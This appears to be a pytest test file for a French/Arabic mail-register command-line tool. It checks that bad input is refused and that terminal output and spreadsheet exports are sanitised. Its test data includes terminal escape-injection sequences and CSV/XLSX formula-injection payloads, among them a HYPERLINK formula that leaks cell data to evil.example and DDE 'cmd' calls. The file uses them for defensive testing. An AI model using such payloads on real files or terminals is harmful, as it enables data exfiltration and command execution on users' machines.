"""Bad input on the command line, on SQLite and PostgreSQL: refused with one clear line (never
an internal error), data printed without anything a terminal acts on, usage errors for filters
no data could satisfy, spreadsheet cells that are text and never formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from app.store.database import Database
from app.store.models import MailEntry
from tests.app.cli.conftest import Cli, Result
from tests.support.files import pdf_bytes

LONG = "ع" * 301
ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x9b31m\u202e"


def _add(cli: Cli, *extra: str, subject: str = "Demande de congé") -> Result:
    return cli(
        "mail", "add", "--direction", "in", "--subject", subject,
        "--correspondent", "Karim Benjelloun", *extra,
    )  # fmt: skip


def _store(cli: Cli, number: str, **values: object) -> None:
    """Write ``values`` as an older version could have (the entry rules are not asked)."""
    db = Database(cli.url)
    try:
        with db.write() as session:
            session.execute(update(MailEntry).where(MailEntry.number == number).values(**values))
    finally:
        db.dispose()


@pytest.mark.parametrize(
    ("option", "field"),
    [
        ("--correspondent", "correspondant"),
        ("--reference", "référence"),
        ("--external-ref", "référence externe"),
        ("--recipient", "destinataire"),
    ],
)
def test_a_long_value_is_refused_in_one_line(ready: Cli, option: str, field: str) -> None:
    done = _add(ready, option, LONG)
    assert done.code == 1, done.err
    assert done.err.strip() == f"bureau-ordre: Le champ « {field} » dépasse 300 caractères." or (
        option != "--correspondent" and "dépasse 200 caractères" in done.err
    )
    assert "interne" not in done.err
    assert ready("mail", "list", "--json").json == []


def test_control_characters_and_bad_bytes_are_refused(ready: Cli) -> None:
    done = _add(ready, subject=f"Demande{ESCAPES}")
    assert done.code == 1 and "U+001B" in done.err and "\x1b" not in done.err
    blank = _add(ready, subject="\u200b\u200c\u200b")
    assert blank.code == 1 and "objet" in blank.err
    # Bytes that are not UTF-8, as a shell passes them: a clear refusal, not a crash.
    env = {**os.environ, **ready.env()}
    proc = subprocess.run(
        [sys.executable, "-m", "app.cli.main", "mail", "add", "--direction", "in",
         "--subject", b"caf\xe9 cr\xe8me", "--correspondent", "Karim"],
        env=env, capture_output=True, timeout=120, check=False, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    assert "UTF-8" in proc.stderr.decode()
    assert ready("mail", "list", "--json").json == []
    # Any text argument, and the user's name from the environment: refused up front, where
    # they used to fail deep inside (an internal error, exit 70).
    latin1 = b"caf\xe9".decode("utf-8", "surrogateescape")
    for args, env in (
        (("mail", "show", f"A-2026/{latin1}"), {}),
        (("search", latin1), {}),
        (("mail", "list"), {"BO_USER": latin1}),
    ):
        refused = ready(*args, **env)
        assert refused.code == 1 and "UTF-8" in refused.err, (args, refused.err)
        assert "\udce9" not in refused.err


def test_a_file_name_that_is_not_utf8_is_kept_readable(ready: Cli, tmp_path: Path) -> None:
    path = Path(os.fsdecode(bytes(tmp_path) + b"/r\xe9sum\xe9.pdf"))
    path.write_bytes(pdf_bytes(1))
    done = _add(ready, "--attach", str(path), "--json")
    assert done.code == 0, done.err
    assert [a["name"] for a in done.json["attachments"]] == ["r\ufffdsum\ufffd.pdf"]


def test_stored_control_characters_never_reach_the_terminal(ready: Cli) -> None:
    number = _add(ready, "--json").json["number"]
    _store(ready, number, subject=f"Objet{ESCAPES} fin", letter_reference="R\x1b[1m")
    for args in (("mail", "list"), ("mail", "show", number), ("search", number)):
        shown = ready(*args)
        assert shown.code == 0, shown.err
        assert not any(c in shown.out for c in "\x1b\x07\x9b\u202e"), args
        assert "\\x1b[2J" in shown.out, args
    as_json = ready("mail", "show", number, "--json")
    assert not any(c in as_json.out for c in "\x1b\x07\x9b\u202e")
    assert as_json.json["subject"] == f"Objet{ESCAPES} fin"


@pytest.mark.parametrize(
    "args",
    [
        ("mail", "list", "--date", "9999-12-31"),
        ("mail", "list", "--date", "2026-01-01", "--to", "9999-12-31"),
        ("mail", "list", "--date", "1066-10-14"),
        ("search", "eau", "--date", "9999-12-31"),
        ("register", "--direction", "in", "--date", "9999-12-31", "--out", "r.csv"),
        ("mail", "list", "--limit", "99999999999999999999"),
        ("search", "eau", "--limit", "99999999999999999999"),
        ("mail", "list", "--limit", "-1"),
        ("mail", "list", "--limit", "0"),
        ("search", "eau", "--limit", "-1"),
        ("mail", "list", "--date", "2026-05-01", "--to", "2026-01-01"),
        ("search", "eau", "--date", "2026-05-01", "--to", "2026-01-01"),
        ("register", "--direction", "in", "--date", "2026-05-01", "--to", "2026-01-01",
         "--out", "r.csv"),
    ],
)  # fmt: skip
def test_filters_no_data_could_satisfy_are_usage_errors(ready: Cli, args: tuple[str, ...]) -> None:
    done = ready(*args)
    assert done.code == 2, done.err
    line = done.err.strip()
    assert line.startswith("bureau-ordre: ") and "\n" not in line
    assert any(w in line for w in ("Date hors limites", "Nombre de résultats", "Période inversée"))
    arabic = ready(*args, "--lang", "ar")
    assert arabic.code == 2 and any("\u0600" <= c <= "\u06ff" for c in arabic.err)


def test_dates_beyond_the_window_are_refused_and_old_ones_shown(ready: Cli) -> None:
    future = _add(ready, "--received-at", "9999-12-31")
    assert future.code == 1 and "dans le futur" in future.err
    letter = _add(ready, "--letter-date", "2999-01-01")
    assert letter.code == 1 and "date de la lettre" in letter.err
    number = _add(ready, "--json").json["number"]
    _store(ready, number, received_at=datetime(9999, 12, 31, 23, 30, tzinfo=UTC))
    shown = ready("mail", "show", number)
    assert shown.code == 0, shown.err
    assert "9999-12-31 23:30" in shown.out
    assert ready("mail", "show", number, "--json").code == 0
    assert ready("assign", number, "--service", "RH").code == 0
    assert ready("inbox").code == 0
    other = _add(ready, "--json").json["number"]
    due = ready("assign", other, "--service", "RH", "--due", "9999-12-31")
    assert due.code == 1 and "futur" in due.err


FORMULAS = [
    '=HYPERLINK("http://evil.example/x?"&A1,"Cliquez")',
    "+212 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_spreadsheet_cells_are_text_never_formulas(ready: Cli, tmp_path: Path) -> None:
    numbers = [_add(ready, "--json", subject=s).json["number"] for s in FORMULAS]
    # an older version let control characters in: the XLSX must still be written
    _store(ready, numbers[0], observations="note\x1b[31m\x07")
    xlsx, comma = tmp_path / "r.xlsx", tmp_path / "r.csv"
    for out in (xlsx, comma):
        done = ready("register", "--direction", "in", "--date", "today", "--out", str(out))
        assert done.code == 0, done.err

    sheet = load_workbook(xlsx)["Registre"]
    heading = [c.value for c in sheet[1]]
    col = next(i for i, h in enumerate(heading) if h.startswith("Objet"))
    cells = [row[col] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS
    assert {c.data_type for c in cells} == {"s"}
    obs = next(i for i, h in enumerate(heading) if h.startswith("Observations"))
    assert sheet.cell(2, obs + 1).value == "note\\x1b[31m\\x07"

    rows = list(csv.reader(io.StringIO(comma.read_bytes().decode("utf-8-sig")), delimiter=";"))
    subjects = [r[heading.index(heading[col])] for r in rows[1:]]
    assert subjects == ["'" + s for s in FORMULAS]
    assert rows[1][0].startswith("A-")  # numbers and dates are left as they are
    assert json.dumps(rows).count("\\u001b") == 0
